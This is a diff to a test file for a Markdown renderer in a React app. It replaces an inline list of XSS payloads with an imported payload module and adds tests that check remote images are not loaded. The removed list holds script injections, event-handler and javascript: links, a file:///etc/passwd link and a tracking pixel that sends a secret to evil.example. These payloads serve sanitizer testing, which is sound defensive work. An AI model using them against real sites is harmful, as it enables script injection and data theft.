@@ -1,6 +1,10 @@
-import { screen, waitFor } from '@testing-library/react'
+import { render, screen, waitFor } from '@testing-library/react'
+import type { ReactElement } from 'react'
 import { describe, expect, it } from 'vitest'
+import { BullpenProvider } from '../../client/context.tsx'
 import { fakeBullpen, renderWith } from '../../testing/fake-bullpen.tsx'
+import { PAYLOADS } from '../../testing/hostile-payloads.ts'
+import { TooltipProvider } from '../../ui/tooltip.tsx'
 import { safeAddress } from '../external-link.tsx'
 import { Markdown } from './markdown.tsx'
 
@@ -10,50 +14,54 @@ const show = async (text: string) => {
   return container
 }
 
-const HOSTILE = [
-  '<script>window.pwned = 1</script>',
-  '<img src=x onerror="window.pwned = 1">',
-  '<iframe src="https://evil.example"></iframe>',
-  '<style>body { display: none }</style>',
-  '<svg onload="window.pwned = 1"></svg>',
-  '<a href="javascript:window.pwned=1">x</a>',
-  '<form action="https://evil.example"><input name="x"></form>',
-  '[x](javascript:window.pwned=1)',
-  '[x](JaVaScRiPt:window.pwned=1)',
-  '[x](java&#x09;script:window.pwned=1)',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](vbscript:msgbox(1))',
-  '[x](file:///etc/passwd)',
-  '[x](http://plain.example/)',
-  '[x](//evil.example/)',
-  '[x](https://user:pass@evil.example/)',
-  '![x](https://evil.example/pixel.png?secret=1)',
-  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
-  '![x][ref]\n\n[ref]: https://evil.example/pixel.png',
-  '<javascript:window.pwned=1>',
-  '[x]: javascript:window.pwned=1\n\n[x]',
-]
+const inApp = (element: ReactElement) => (
+  <BullpenProvider bullpen={fakeBullpen({})}>
+    <TooltipProvider>{element}</TooltipProvider>
+  </BullpenProvider>
+)
+
+/** What may draw: icons of ours and what a formula is made of. */
+const OURS = 'svg:not([class*="lucide"], .katex svg)'
+
+function expectHarmless(container: HTMLElement, payload: string): void {
+  const dangerous = container.querySelectorAll(`script, iframe, style, ${OURS}, form, object, embed, link, meta, base`)
+  expect(dangerous, payload).toHaveLength(0)
+  for (const image of container.querySelectorAll('img'))
+    expect(image.src).toMatch(/^data:image\/(?:png|jpeg|gif|webp);/)
+  for (const link of container.querySelectorAll('a')) {
+    expect(link.getAttribute('href')).toMatch(/^(https:\/\/(?!user)|mailto:)/)
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
+    expect(link.getAttribute('target')).toBe('_blank')
+  }
+  for (const element of container.querySelectorAll('*')) {
+    expect([...element.attributes].filter(({ name }) => name.startsWith('on'))).toEqual([])
+  }
+}
 
 describe('Markdown of a model', () => {
-  it.each(HOSTILE)('makes nothing dangerous of %s', async (text) => {
-    const container = await show(text)
-    expect(
-      container.querySelectorAll('script, img, iframe, style, svg:not([class*="lucide"]), form, object, embed'),
-    ).toHaveLength(0)
-    for (const link of container.querySelectorAll('a')) {
-      expect(link.getAttribute('href')).toMatch(/^(https:\/\/(?!user)|mailto:)/)
-      expect(link.getAttribute('rel')).toBe('noopener noreferrer')
-      expect(link.getAttribute('target')).toBe('_blank')
-    }
-    for (const element of container.querySelectorAll('*')) {
-      expect([...element.attributes].filter(({ name }) => name.startsWith('on'))).toEqual([])
+  it('makes nothing dangerous of any hostile text', async () => {
+    await show('the parser is there')
+    const { rerender, container } = render(inApp(<Markdown text="" />))
+    for (const payload of PAYLOADS) {
+      rerender(inApp(<Markdown text={payload} />))
+      expectHarmless(container, payload)
     }
   })
 
-  it('shows an image as a link to it, with its words', async () => {
+  it('does not load an image from elsewhere: its words stand there, and a link to it with its host', async () => {
     const container = await show('![a chart](https://example.com/chart.png)')
-    expect(container.querySelector('a')?.textContent).toBe('a chart')
-    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://example.com/chart.png')
+    expect(container.querySelector('img')).toBeNull()
+    expect(screen.getByRole('group', { name: 'Image: a chart' }).textContent).toContain('a chart')
+    const link = screen.getByRole('link', { name: 'Open at example.com' })
+    expect(link.getAttribute('href')).toBe('https://example.com/chart.png')
+  })
+
+  it('makes one link of an image in a link', async () => {
+    const container = await show('[![build](https://ci.example/badge.png)](https://ci.example/runs)')
+    expect(Array.from(container.querySelectorAll('a'), (link) => link.getAttribute('href'))).toEqual([
+      'https://ci.example/runs',
+    ])
+    expect(container.textContent).toContain('build')
   })
 
   it('shows tables, task lists and code', async () => {
